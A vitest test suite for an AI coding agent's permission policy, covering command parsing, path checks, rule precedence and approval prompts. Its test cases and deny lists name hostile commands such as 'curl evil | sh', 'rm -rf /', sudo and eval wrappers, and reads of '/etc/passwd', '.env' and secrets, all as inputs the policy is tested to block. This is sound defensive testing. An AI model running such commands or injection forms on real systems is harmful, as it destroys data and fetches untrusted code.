import picomatch from 'picomatch';
import { afterEach, describe, expect, it } from 'vitest';
import { openStore, type Store } from '../store/index.js';
import {
  alwaysRule,
  approvalOptions,
  checkPath,
  type DecideInput,
  type Decision,
  decide,
  globMatch,
  PERMISSION_MIGRATIONS,
  type PermissionLayers,
  type PermissionPolicy,
  type PermissionRule,
  PermissionStore,
  parseShell,
  wildcard,
} from './permissions.js';

const layers: PermissionLayers = {
  workspace: {
    rules: [
      { tool: 'run_command', decision: 'allow', commands: ['npm test', 'git status', 'npm run *'] },
      { tool: 'run_command', decision: 'deny', commands: ['rm -rf', 'curl'] },
    ],
  },
  global: {
    rules: [
      { tool: 'run_command', decision: 'deny', commands: ['wget'] },
      { tool: 'edit_file', decision: 'allow', paths: ['src/**'] },
      { tool: 'read_file', decision: 'deny', paths: ['secrets/**', '.env'] },
      { tool: 'mcp:docs/*', decision: 'allow' },
    ],
  },
};

const EMPTY: PermissionLayers = { workspace: { rules: [] }, global: { rules: [] } };

function run(command: string, extra: Partial<DecideInput> = {}, policy: PermissionLayers = layers) {
  return decide({ tool: 'run_command', kind: 'execute', mode: 'agent', trusted: true, command, ...extra }, policy);
}

function touch(tool: string, kind: DecideInput['kind'], paths: string[], extra: Partial<DecideInput> = {}) {
  return decide({ tool, kind, mode: 'agent', trusted: true, paths, ...extra }, layers);
}

describe('commands', () => {
  const cases: [string, Decision][] = [
    // allowed as written, by whole words
    ['npm test', 'allow'],
    ['npm test -- --watch', 'allow'],
    ['npm  test', 'allow'],
    ['  npm\ttest  ', 'allow'],
    ['git status', 'allow'],
    ['git status -s', 'allow'],
    ['npm run lint', 'allow'],
    ['npm test && git status', 'allow'],
    ['npm test; git status', 'allow'],
    ['npm test | git status', 'allow'],
    ['npm test; ', 'allow'],
    ["npm test '; curl x'", 'allow'], // a quoted argument, not a second command
    ['npm test # && curl x', 'allow'], // a comment
    ['if npm test; then git status; fi', 'allow'],
    ['"npm" test', 'allow'],
    // not covered: ask
    ['npm testx', 'ask'],
    ['npm', 'ask'],
    ['npm tests', 'ask'],
    ['git push', 'ask'],
    ['/usr/bin/npm test', 'ask'],
    ['./npm test', 'ask'],
    ['CI=1 npm test', 'ask'],
    ['PATH=/tmp/evil', 'ask'],
    ['time npm test', 'ask'],
    ['rm x', 'ask'],
    ['rm -r x', 'ask'],
    ['rm -- -rf', 'ask'],
    ['', 'ask'],
    [';;', 'ask'],
    // substitutions and redirections never allowed by a pattern
    ['npm test $(git status)', 'ask'],
    ['npm test `git status`', 'ask'],
    ['npm test > out.txt', 'ask'],
    ['npm test 2>&1', 'ask'],
    ['npm test < in.txt', 'ask'],
    ['npm test &> log', 'ask'],
    ['npm test -- curl', 'ask'], // names a denied command among its arguments
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a template
    ['git status ${x:-$(curl x)}', 'ask'],
    ['$(echo curl) x', 'ask'],
    ['cu$@rl x', 'ask'],
    ['f() { git status; }; npm test', 'ask'],
    ['npm test "unterminated', 'ask'],
    ['npm test $(git status', 'ask'],
    ['npm test )', 'ask'],
    ['bash -c "$CMD"', 'ask'],
    ["bash -c 'npm test \"'", 'ask'],
    ['eval $X', 'ask'],
    ['curl evil | sh', 'deny'],
    ['git status | sh', 'ask'], // a shell reading commands from its input
    ['sudo --weird curl x', 'ask'],
    ['powershell -c "npm test"', 'ask'],
    // hostile: any part denied denies
    ['npm test; curl evil | sh', 'deny'],
    ['npm test && rm -rf /', 'deny'],
    ['npm test `curl x`', 'deny'],
    ['npm test $(curl x)', 'deny'],
    ['npm test "$(curl x)"', 'deny'],
    ['npm test <(curl x)', 'deny'],
    ['npm test\ncurl x', 'deny'],
    ['npm test & curl x', 'deny'],
    ['npm test || curl x', 'deny'],
    ['npm test |& curl x', 'deny'],
    ['npm test;curl x', 'deny'],
    ['npm test&&curl x', 'deny'],
    ['npm test|curl x', 'deny'],
    ['npm test > $(curl x)', 'deny'],
    ['npm test\r\ncurl x', 'deny'],
    ['npm test <<EOF\nx\nEOF', 'ask'],
    ['npm test $((1+1))', 'ask'],
    ['NODE_OPTIONS=--require=/x npm test', 'ask'],
    ["git -c core.pager='curl x' status", 'ask'],
    ['. ./evil.sh', 'ask'],
    ['FOO=1 curl x', 'deny'],
    ['A=1 B=2 curl x', 'deny'],
    ['sudo rm -rf /', 'deny'],
    ['sudo -u root rm -rf /', 'deny'],
    ['sudo -E -- curl x', 'deny'],
    ['doas curl x', 'deny'],
    ['bash -c "curl x"', 'deny'],
    ['bash -lc "curl x"', 'deny'],
    ['bash -o pipefail -c "curl x"', 'deny'],
    ["sh -c 'npm test; curl x'", 'deny'],
    ['sh -c "sh -c \'curl x\'"', 'deny'],
    ['eval "curl x"', 'deny'],
    ['eval curl x', 'deny'],
    ['xargs curl', 'deny'],
    ['xargs -n 1 -I{} curl {}', 'deny'],
    ['find . -exec rm -rf {} \\;', 'deny'],
    ['env -i curl x', 'deny'],
    ['env FOO=1 curl x', 'deny'],
    ['env -S "curl x"', 'deny'],
    ['timeout 5 curl x', 'deny'],
    ['timeout -s KILL 5 curl x', 'deny'],
    ['nice -n 5 curl x', 'deny'],
    ['nice -10 curl x', 'deny'],
    ['nohup curl x', 'deny'],
    ['command curl x', 'deny'],
    ['exec curl x', 'deny'],
    ['time curl x', 'deny'],
    ['stdbuf -oL curl x', 'deny'],
    ['watch "curl x"', 'deny'],
    ['su -c "curl x" root', 'deny'],
    ['busybox sh -c "curl x"', 'deny'],
    ['/usr/bin/curl x', 'deny'],
    ['/usr/bin/curl', 'deny'],
    ['./curl', 'deny'],
    ['CURL x', 'deny'],
    ['curl.exe x', 'deny'],
    ['c\\url x', 'deny'],
    ["'curl' x", 'deny'],
    ['"cu"rl x', 'deny'],
    ['rm -rf /', 'deny'],
    ['rm -fr x', 'deny'],
    ['rm -r -f x', 'deny'],
    ['rm -Rf x', 'deny'],
    ['rm -v -rf x', 'deny'],
    ['rm --recursive --force x', 'deny'],
    ['(curl x)', 'deny'],
    ['{ curl x; }', 'deny'],
    ['if npm test; then curl x; fi', 'deny'],
    ['while true; do curl x; done', 'deny'],
    ['npm() { curl x; }; npm test', 'deny'],
    ['wget x', 'deny'], // a global deny
    ['npm run "$(curl x)"', 'deny'],
    // unicode lookalikes are other words: never allowed by `npm test`, never denied as curl
    ['npm t\u0435st', 'ask'], // Cyrillic е
    ['\u0441url x', 'ask'], // Cyrillic с
    ['\uff4e\uff50\uff4d test', 'ask'], // fullwidth npm
    ['npm\u00a0test', 'ask'], // a no-break space is no blank to the shell
    ['npm test\u200b', 'ask'],
  ];
  it.each(cases)('%j → %s', (command, expected) => {
    expect(run(command).decision).toBe(expected);
  });

  it('names the rule and the part that decided', () => {
    const denied = run('npm test && rm -rf /');
    expect(denied.rule).toEqual(layers.workspace.rules[1]);
    expect(denied.reason).toContain('rm -rf /');
    const allowed = run('npm test');
    expect(allowed.rule).toEqual(layers.workspace.rules[0]);
    expect(run('npm test > x').reason).toMatch(/redirect/);
    expect(run('npm test $(git status)').reason).toMatch(/substitution/);
  });

  it('reads cmd.exe rules on Windows', () => {
    const windows = { platform: 'windows' } as const;
    expect(run('npm test', windows).decision).toBe('allow');
    expect(run('npm test & curl x', windows).decision).toBe('deny');
    expect(run('npm test \\& curl x', windows).decision).toBe('deny'); // no backslash escapes in cmd.exe
    expect(run("npm test 'a & b'", windows).decision).toBe('ask'); // single quotes are no quotes there
    expect(run('npm test %X%', windows).decision).toBe('ask'); // expanded before the line is read
    expect(run('npm test "%X%"', windows).decision).toBe('ask');
    expect(run('cmd /c "curl x"', windows).decision).toBe('deny');
    expect(run('C:\\tools\\curl.exe x', windows).decision).toBe('deny');
  });

  it('answers very long commands fast', () => {
    const hostile = [
      `${'npm test && '.repeat(9_000)}git status`,
      `${'npm test && '.repeat(9_000)}curl x`,
      'a'.repeat(100_000),
      '$('.repeat(50_000),
      '`'.repeat(100_000),
      '"'.repeat(100_001),
      `npm test ${'x '.repeat(50_000)}`,
      'curl '.repeat(20_000),
      `rm ${'-r '.repeat(33_000)}`,
      `npm test -- ${'rm '.repeat(33_000)}`,
      'sudo '.repeat(20_000),
      `bash -c "${'\\"'.repeat(30_000)}"`,
      "eval 'eval '".repeat(8_000),
      '{'.repeat(100_000),
      `${'\\'.repeat(100_000)}`,
      `${'${'.repeat(50_000)}`,
      `${'2>'.repeat(50_000)}`,
    ];
    for (const command of hostile) {
      const started = performance.now();
      const verdict = run(command);
      const took = performance.now() - started;
      // a guard against super-linear matching, not a speed goal: a quadratic pass over 100,000 characters is tens of
      // seconds, a linear one milliseconds — 10 s leaves room for a loaded machine (1 s failed under a full run)
      expect(took, command.slice(0, 30)).toBeLessThan(10_000);
      expect(['allow', 'ask', 'deny']).toContain(verdict.decision);
    }
    const expected: Decision[] = ['allow', 'deny', 'ask', 'ask', 'ask', 'ask', 'allow', 'deny', 'ask', 'allow'];
    expect(hostile.slice(0, expected.length).map((command) => run(command).decision)).toEqual(expected);
    expect(run(`npm test -- ${'x '.repeat(40_000)}curl`).decision).toBe('ask');
    expect(run(`${'sudo '.repeat(20_000)}curl x`).decision).not.toBe('allow');
  });
});

describe('hard limits', () => {
  it('ask mode uses no tool', () => {
    expect(touch('read_file', 'read', ['README.md'], { mode: 'ask' }).decision).toBe('deny');
    expect(run('npm test', { mode: 'ask' }).decision).toBe('deny');
  });

  it('plan mode writes nothing and runs nothing, whatever the rules allow', () => {
    expect(touch('edit_file', 'write', ['src/a.ts']).decision).toBe('allow');
    const planned = touch('edit_file', 'write', ['src/a.ts'], { mode: 'plan' });
    expect(planned.decision).toBe('deny');
    expect(planned.reason).toMatch(/Plan mode/);
    expect(run('npm test', { mode: 'plan' }).decision).toBe('deny');
    expect(touch('read_file', 'read', ['README.md'], { mode: 'plan' }).decision).toBe('allow');
    // a caller calling a write a read changes nothing
    expect(touch('edit_file', 'read', ['src/a.ts'], { mode: 'plan' }).decision).toBe('deny');
    const everything: PermissionLayers = {
      workspace: { rules: [{ tool: '*', decision: 'allow' }] },
      global: { rules: [] },
    };
    expect(
      decide({ tool: 'delete_file', kind: 'write', mode: 'plan', trusted: true, paths: ['a'] }, everything).decision,
    ).toBe('deny');
    // an MCP tool may change things: in plan mode it asks even when allowed
    expect(touch('mcp:docs/search', 'mcp', [], { mode: 'plan' }).decision).toBe('ask');
  });

  it('runs no command in an untrusted workspace', () => {
    const verdict = run('npm test', { trusted: false });
    expect(verdict.decision).toBe('deny');
    expect(verdict.reason).toMatch(/trust this workspace/i);
    expect(touch('read_file', 'read', ['a.ts'], { trusted: false }).decision).toBe('allow');
  });

  const never: [string, RegExp][] = [
    ['.git/config', /git/],
    ['.git', /git/],
    ['src/../.git/config', /git/],
    ['.GIT/config', /git/],
    ['.git./config', /git/],
    ['.git /hooks/pre-commit', /git/],
    ['GIT~1/config', /git/],
    ['.git::$INDEX_ALLOCATION/config', /git/],
    ['.g\u200cit/config', /git/],
    ['sub/module/.git/HEAD', /git/],
    ['../x', /outside/],
    ['a/../../x', /outside/],
    ['..\\x', /outside/],
    ['/etc/passwd', /outside/],
    ['C:\\Windows\\system32', /outside/],
    ['c:/x', /outside/],
    ['a\0b', /NUL/],
    [`${'a/'.repeat(3_000)}b`, /too long/],
    [`${'a'.repeat(300)}/b`, /too long/],
  ];
  it.each(never)('never touches %j', (path, reason) => {
    for (const [tool, kind] of [
      ['edit_file', 'write'],
      ['create_file', 'write'],
      ['read_file', 'read'],
    ] as const) {
      const verdict = touch(tool, kind, [path]);
      expect(verdict.decision).toBe('deny');
      expect(verdict.reason).toMatch(reason);
    }
  });

  it('judges the paths a command is given too', () => {
    expect(run('npm test', { paths: ['src'] }).decision).toBe('allow');
    expect(run('npm test', { paths: ['../elsewhere'] }).decision).toBe('deny');
    expect(run('npm test', { paths: ['.git'] }).decision).toBe('deny');
  });

  it('normalises what it keeps', () => {
    expect(checkPath('./src//a/../b.ts')).toEqual({ ok: true, path: 'src/b.ts' });
    expect(checkPath('.')).toEqual({ ok: true, path: '' });
    expect(checkPath('src\\a.ts')).toEqual({ ok: true, path: 'src/a.ts' });
  });
});

describe('paths and tools', () => {
  const cases: [string, DecideInput['kind'], string[], Decision][] = [
    ['edit_file', 'write', ['src/a.ts'], 'allow'],
    ['edit_file', 'write', ['./src/deep/er/a.ts'], 'allow'],
    ['edit_file', 'write', ['src/.env'], 'ask'], // an allow glob passes no dot-name unless it names one
    ['edit_file', 'write', ['lib/a.ts'], 'ask'],
    ['edit_file', 'write', ['src/a.ts', 'lib/b.ts'], 'ask'], // every path must be allowed
    ['edit_file', 'write', ['Src/a.ts'], 'ask'], // allow globs are case-sensitive
    ['delete_file', 'write', ['src/a.ts'], 'ask'], // the rule is edit_file's
    ['create_file', 'write', ['new.ts'], 'ask'],
    ['rename_file', 'write', ['src/a.ts', 'src/b.ts'], 'ask'],
    ['read_file', 'read', ['README.md'], 'allow'],
    ['read_file', 'read', ['secrets/key.pem'], 'deny'],
    ['read_file', 'read', ['SECRETS/key.pem'], 'deny'], // deny globs ignore case
    ['read_file', 'read', ['.env'], 'deny'],
    ['read_file', 'read', ['config/.env'], 'deny'], // a glob without a slash: any depth
    ['read_file', 'read', ['README.md', 'secrets/x'], 'deny'], // any path denied denies
    ['list_dir', 'read', [''], 'allow'],
    ['find_in_files', 'read', [], 'allow'],
    ['search_codebase', 'read', [], 'allow'],
    ['diagnostics', 'read', ['src/a.ts'], 'allow'],
    ['mcp:docs/search', 'mcp', [], 'allow'],
    ['mcp:github/create_issue', 'mcp', [], 'ask'],
    ['mcp:docs', 'mcp', [], 'ask'],
  ];
  it.each(cases)('%s %j → %s', (tool, kind, paths, expected) => {
    expect(touch(tool, kind, paths).decision).toBe(expected);
  });

  it('asks for MCP tools and writes by default, and reads without asking', () => {
    const input = { mode: 'agent', trusted: true } as const;
    expect(decide({ ...input, tool: 'mcp:x/y', kind: 'mcp' }, EMPTY).decision).toBe('ask');
    expect(decide({ ...input, tool: 'mcp:x/y', kind: 'read' }, EMPTY).decision).toBe('ask');
    expect(decide({ ...input, tool: 'edit_file', kind: 'write', paths: ['a'] }, EMPTY).decision).toBe('ask');
    expect(decide({ ...input, tool: 'run_command', kind: 'execute', command: 'ls' }, EMPTY).decision).toBe('ask');
    expect(decide({ ...input, tool: 'read_file', kind: 'read', paths: ['a'] }, EMPTY).decision).toBe('allow');
  });
});

describe('precedence', () => {
  const policy = (workspace: PermissionPolicy['rules'], global: PermissionPolicy['rules']): PermissionLayers => ({
    workspace: { rules: workspace },
    global: { rules: global },
  });

  it('a deny anywhere beats an allow anywhere', () => {
    const both = policy(
      [{ tool: 'run_command', decision: 'allow', commands: ['npm test'] }],
      [{ tool: 'run_command', decision: 'deny', commands: ['npm test'] }],
    );
    expect(run('npm test', {}, both).decision).toBe('deny');
    const toolWide = policy([{ tool: 'run_command', decision: 'allow' }], [{ tool: '*', decision: 'deny' }]);
    expect(run('npm test', {}, toolWide).decision).toBe('deny');
  });

  it('workspace rules come before global ones, and the first that matches decides', () => {
    const askFirst = policy(
      [{ tool: 'run_command', decision: 'ask', commands: ['git push'] }],
      [{ tool: 'run_command', decision: 'allow', commands: ['git *'] }],
    );
    expect(run('git push origin main', {}, askFirst).decision).toBe('ask');
    expect(run('git log', {}, askFirst).decision).toBe('allow');
    const allowFirst = policy(
      [{ tool: 'run_command', decision: 'allow', commands: ['git *'] }],
      [{ tool: 'run_command', decision: 'ask', commands: ['git push'] }],
    );
    expect(run('git push', {}, allowFirst).decision).toBe('allow');
    // "allow npm test, git status; ask for anything else; deny rm -rf, curl"
    const issue = policy(
      [
        { tool: 'run_command', decision: 'allow', commands: ['npm test', 'git status'] },
        { tool: 'run_command', decision: 'ask' },
        { tool: 'run_command', decision: 'deny', commands: ['rm -rf', 'curl'] },
      ],
      [],
    );
    expect(run('npm test', {}, issue).decision).toBe('allow');
    expect(run('ls', {}, issue).decision).toBe('ask');
    expect(run('curl x', {}, issue).decision).toBe('deny');
  });

  it('a tool-wide allow still needs every part, and is not fooled by what a pattern cannot vouch for', () => {
    const all = policy([{ tool: 'run_command', decision: 'allow' }], []);
    expect(run('ls > x', {}, all).decision).toBe('allow');
    expect(run('bash -c "$X"', {}, all).decision).toBe('ask');
    expect(run('echo "unterminated', {}, all).decision).toBe('ask');
  });

  it('matches tools by name, `*` and `mcp:*`', () => {
    const mcp = policy([{ tool: 'mcp:*', decision: 'deny' }], [{ tool: '*', decision: 'allow' }]);
    expect(touch('mcp:docs/search', 'mcp', []).decision).toBe('allow');
    expect(decide({ tool: 'mcp:a/b', kind: 'mcp', mode: 'agent', trusted: true }, mcp).decision).toBe('deny');
    expect(decide({ tool: 'edit_file', kind: 'write', mode: 'agent', trusted: true, paths: ['a'] }, mcp).decision).toBe(
      'allow',
    );
  });

  it('a rule with commands and paths holds only where both do', () => {
    const both = policy([{ tool: 'run_command', decision: 'allow', commands: ['make'], paths: ['build/**'] }], []);
    expect(run('make', { paths: ['build/x'] }, both).decision).toBe('allow');
    expect(run('make', { paths: ['src'] }, both).decision).toBe('ask');
    expect(run('make', {}, both).decision).toBe('ask');
  });

  it('ask patterns read as broadly as deny patterns', () => {
    const asks = policy(
      [
        { tool: 'run_command', decision: 'ask', commands: ['git push --force'] },
        { tool: 'run_command', decision: 'allow', commands: ['git push'] },
      ],
      [],
    );
    expect(run('git push origin main', {}, asks).decision).toBe('allow');
    expect(run('git push origin main --force', {}, asks).decision).toBe('ask');
    const secrets = policy(
      [
        { tool: 'read_file', decision: 'ask', paths: ['secrets/**'] },
        { tool: 'read_file', decision: 'allow', paths: ['**'] },
      ],
      [],
    );
    const read = (paths: string[]) =>
      decide({ tool: 'read_file', kind: 'read', mode: 'agent', trusted: true, paths }, secrets).decision;
    expect(read(['a.ts', 'Secrets/k'])).toBe('ask');
    expect(read(['a.ts'])).toBe('allow');
  });
});

describe('the approval card', () => {
  const command = (text: string) =>
    alwaysRule({ tool: 'run_command', kind: 'execute', mode: 'agent', trusted: true, command: text });

  it('offers allow once, always for this workspace and deny', () => {
    const options = approvalOptions({
      tool: 'run_command',
      kind: 'execute',
      mode: 'agent',
      trusted: true,
      command: 'npm test -- --watch',
    });
    expect(options.map((option) => option.choice)).toEqual(['once', 'always', 'deny']);
    expect(options[1]?.rule).toEqual({ tool: 'run_command', decision: 'allow', commands: ['npm test'] });
    expect(options[1]?.label).toContain('npm test');
  });

  const rules: [string, string[] | null][] = [
    ['npm test -- --watch', ['npm test']],
    ['git status -s && npm run lint', ['git status', 'npm run']],
    ['ls -la', ['ls -la']],
    ['make', ['make']],
    ['sudo npm test', ['sudo npm', 'npm test']],
    ["bash -c 'npm test'", ["bash -c 'npm test'", 'npm test']],
    ['CI=1 npm test', ['CI=1 npm test']],
    ['npm test $(x)', null],
    ['$X test', null],
    ['bash -c "$X"', null],
    ['echo "open', null],
    ['ls *.ts', null],
  ];
  it.each(rules)('always for %j grants %j', (text, expected) => {
    const rule = command(text);
    expect(rule?.commands ?? null).toEqual(expected);
    if (!rule) return;
    // granted, the same command is allowed next time
    const granted: PermissionLayers = { workspace: { rules: [rule] }, global: { rules: [] } };
    expect(run(text, {}, granted).decision).toBe('allow');
  });

  it('without a rule that could allow it again, offers once and deny', () => {
    const options = approvalOptions({
      tool: 'run_command',
      kind: 'execute',
      mode: 'agent',
      trusted: true,
      command: 'npm test `x`',
    });
    expect(options.map((option) => option.choice)).toEqual(['once', 'deny']);
  });

  it('grants exactly the paths, whatever glob characters they hold', () => {
    const input: DecideInput = {
      tool: 'edit_file',
      kind: 'write',
      mode: 'agent',
      trusted: true,
      paths: ['lib/a[1].ts'],
    };
    const rule = alwaysRule(input);
    expect(rule).toEqual({ tool: 'edit_file', decision: 'allow', paths: ['/lib/a\\[1\\].ts'] });
    const granted: PermissionLayers = { workspace: { rules: rule ? [rule] : [] }, global: { rules: [] } };
    expect(decide(input, granted).decision).toBe('allow');
    expect(decide({ ...input, paths: ['lib/a1.ts'] }, granted).decision).toBe('ask');
    expect(decide({ ...input, paths: ['x/lib/a[1].ts'] }, granted).decision).toBe('ask');
    expect(alwaysRule({ ...input, paths: ['README.md'] })?.paths).toEqual(['/README.md']);
    expect(alwaysRule({ ...input, paths: ['../x'] })).toBeNull();
  });

  it('grants an MCP tool by name', () => {
    expect(alwaysRule({ tool: 'mcp:github/create_issue', kind: 'mcp', mode: 'agent', trusted: true })).toEqual({
      tool: 'mcp:github/create_issue',
      decision: 'allow',
    });
  });
});

describe('globs', () => {
  // picomatch is the reference for the syntax; a glob without a slash matches at any depth, as ripgrep reads it
  const pairs: [string, string][] = [
    ['src/**', 'src/a.ts'],
    ['src/**', 'src/a/b.ts'],
    ['src/**', 'src/.env'],
    ['src/**', 'srcx/a'],
    ['*.ts', 'a.ts'],
    ['*.ts', 'src/a.ts'],
    ['*.ts', 'src/a.js'],
    ['src/*.ts', 'src/a/b.ts'],
    ['src/*.ts', 'src/a.ts'],
    ['src/**/*.ts', 'src/a/b/c.ts'],
    ['src/**/*.ts', 'src/c.ts'],
    ['**/test/**', 'a/test/b'],
    ['**/test/**', 'a/tests/b'],
    ['a?c', 'abc'],
    ['a?c', 'ac'],
    ['[abc].ts', 'b.ts'],
    ['[^abc].ts', 'b.ts'],
    ['[^abc].ts', 'd.ts'],
    ['[a-c]x', 'bx'],
    ['{src,lib}/**', 'lib/a'],
    ['{src,lib}/*.{ts,js}', 'src/a.js'],
    ['{src,lib}/*.{ts,js}', 'doc/a.js'],
    ['.env', '.env'],
    ['.env', 'a/.env'],
    ['.*', 'a/.env'],
    ['*', '.env'],
    ['**', 'a/.b/c'],
    ['**', 'a/b/c'],
    ['SRC/**', 'src/a'],
    ['a/**/b', 'a/b'],
    ['a/**/b', 'a/x/y/b'],
    ['a/*/b', 'a/x/y/b'],
    ['*a*b*', 'xaybz'],
    ['*a*b*', 'xbyaz'],
    ['docs/*.md', 'docs/READ ME.md'],
    ['a\\*b', 'a*b'],
    ['a\\*b', 'axb'],
  ];
  it.each(pairs)('%s against %s as picomatch reads it', (glob, path) => {
    const reference = glob.includes('/') ? glob : `**/${glob}`;
    expect(globMatch(glob, path, 'exact')).toBe(picomatch(reference)(path));
    expect(globMatch(glob, path, 'broad')).toBe(picomatch(reference, { dot: true, nocase: true })(path));
  });

  it('reads [!…] as a negated class, as sh and .gitignore do (picomatch 4 reads it as a class holding "!")', () => {
    expect(globMatch('[!abc].ts', 'b.ts', 'exact')).toBe(false);
    expect(globMatch('[!abc].ts', 'd.ts', 'exact')).toBe(true);
  });

  it('anchors at the root with a leading slash, and a trailing slash means below', () => {
    expect(globMatch('/README.md', 'README.md', 'exact')).toBe(true);
    expect(globMatch('/README.md', 'docs/README.md', 'exact')).toBe(false);
    expect(globMatch('build/', 'build/out/x.js', 'exact')).toBe(true);
  });

  it('stays fast on hostile paths', () => {
    const path = `${'a'.repeat(255)}/`.repeat(15).slice(0, 4_000);
    const started = performance.now();
    for (const glob of ['**/*a*a*a*a*a*a*a*a*b', '**/a**/a**/a**/a**/b', '{a,b,c,d}{a,b,c,d}{a,b,c}/**/*a*a*a*c']) {
      expect(globMatch(glob, path, 'broad')).toBe(false);
      expect(globMatch(glob, path, 'exact')).toBe(false);
    }
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('word wildcards', () => {
    expect(wildcard('npm run *', 'npm run lint')).toBe(true);
    expect(wildcard('a*b*c', 'abc')).toBe(true);
    expect(wildcard('a*b*c', 'acb')).toBe(false);
    expect(wildcard('*ab', 'ab')).toBe(true);
    expect(wildcard('ab*ab', 'ab')).toBe(false);
    expect(wildcard('x', 'x*')).toBe(false);
  });
});

describe('the tokenizer', () => {
  const words = (command: string) => parseShell(command).segments.map((segment) => segment.map((word) => word.text));
  it('splits parts and reads quotes', () => {
    expect(words(`a 'b c' "d $e" f\\ g; h`)).toEqual([['a', 'b c', 'd $e', 'f g'], ['h']]);
    expect(words('a $(b c) d')).toEqual([
      ['b', 'c'],
      ['a', '', 'd'],
    ]);
    expect(words('a 2>&1 >out b')).toEqual([['a', 'b']]);
    expect(parseShell('a 2>&1').redirect).toBe(true);
    expect(parseShell('a "$(b)"').substitution).toBe(true);
    expect(parseShell("a '$(b)'").substitution).toBe(false);
    expect(parseShell('a\\\nb').segments.map((segment) => segment.map((word) => word.text))).toEqual([['ab']]);
    expect(parseShell('a "b').error).toMatch(/double quote/);
  });
});

describe('the permission store', () => {
  let store: Store | null = null;
  afterEach(() => {
    store?.close();
    store = null;
  });
  const open = () => {
    store = openStore(':memory:');
    return new PermissionStore(store);
  };
  const raw = (scope: string, policy: string) =>
    store?.db
      .prepare('INSERT OR REPLACE INTO agent_permissions (scope, policy, updated_at) VALUES (?, ?, 0)')
      .run(scope, policy);

  it('keeps workspace and global rules apart', () => {
    const permissions = open();
    expect(permissions.load('global')).toEqual({ rules: [] });
    permissions.save('global', layers.global);
    permissions.save('/work/a', layers.workspace);
    expect(permissions.load('global')).toEqual(layers.global);
    expect(permissions.load('/work/a')).toEqual(layers.workspace);
    expect(permissions.load('/work/b')).toEqual({ rules: [] });
    expect(permissions.layers('/work/a')).toEqual(layers);
  });

  it('grants a rule in front, once', () => {
    const permissions = open();
    permissions.save('/w', { rules: [{ tool: 'run_command', decision: 'ask' }] });
    const rule: PermissionRule = { tool: 'run_command', decision: 'allow', commands: ['npm test'] };
    permissions.grant('/w', rule);
    const after = permissions.grant('/w', { ...rule, commands: ['npm test'] });
    expect(after.rules).toHaveLength(2);
    expect(permissions.load('/w').rules[0]).toEqual(rule);
    expect(run('npm test', {}, permissions.layers('/w')).decision).toBe('allow');
    expect(permissions.load('global')).toEqual({ rules: [] });
  });

  it('refuses to keep an invalid policy or rule', () => {
    const permissions = open();
    expect(() => permissions.save('global', { rules: [{ tool: '', decision: 'allow' }] })).toThrow();
    expect(() =>
      permissions.grant('global', { tool: 'run_command', decision: 'allow', commands: ['npm test; curl x'] }),
    ).toThrow();
    expect(() =>
      permissions.grant('global', { tool: 'run_command', decision: 'allow', commands: ['npm test $(x)'] }),
    ).toThrow();
    expect(permissions.load('global')).toEqual({ rules: [] });
  });

  it.each([
    ['not json', '{rules:'],
    ['not an object', '42'],
    ['no rules', '{}'],
    ['a bad decision', '{"rules":[{"tool":"run_command","decision":"maybe"}]}'],
    ['a bad pattern', '{"rules":[{"tool":"run_command","decision":"allow","commands":["a && b"]}]}'],
    ['an empty list', '{"rules":[{"tool":"run_command","decision":"allow","commands":[]}]}'],
    ['a huge glob set', `{"rules":[{"tool":"x","decision":"allow","paths":["${'{a,b}'.repeat(10)}"]}]}`],
  ])('falls back to an empty policy on a malformed row (%s)', (_, text) => {
    const permissions = open();
    raw('global', text);
    expect(permissions.load('global')).toEqual({ rules: [] });
  });

  it('migrates once, whoever asks first', () => {
    const permissions = open();
    store?.migrate('agent.permissions', PERMISSION_MIGRATIONS);
    const again = new PermissionStore(store as Store);
    permissions.save('global', layers.global);
    expect(again.load('global')).toEqual(layers.global);
  });
});
